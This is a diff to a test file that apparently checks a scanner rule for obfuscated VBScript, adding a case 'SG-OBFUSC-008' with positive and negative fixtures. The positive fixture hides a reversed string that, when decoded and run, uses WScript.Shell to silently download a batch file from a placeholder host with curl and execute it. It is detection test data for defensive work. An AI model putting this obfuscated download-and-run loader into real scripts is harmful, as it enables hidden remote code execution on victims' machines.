@@ -645,6 +645,17 @@ describeRuleCases('obfuscation (VBA class modules)', [
   },
 ]);
 
+describeRuleCases('obfuscation (VBScript code run from a reversed string)', [
+  {
+    id: 'SG-OBFUSC-008',
+    file: 'tools/sync.vbs',
+    positive:
+      'Dim k\nk = "0 ,""tab.s && tab.s o- tab.s/ten.elpmaxe.rorrim//:sptth s- lruc c/ dmc"" nuR.o :)""llehS.tpircSW""(tcejbOetaerC = o teS"\nExecuteGlobal StrReverse(k)\n',
+    negative:
+      'Dim k\nk = "noitamrofnIbv ,""redlof stropxE eht ni ydaer si troper ylkeew ehT"" xoBgsM"\nExecuteGlobal StrReverse(k)\n',
+  },
+]);
+
 describe('adversarial VBA string evaluation', () => {
   const MiB = 1024 * 1024;
   const names = Array.from({ length: 26 }, (_, i) => String.fromCharCode(97 + i));
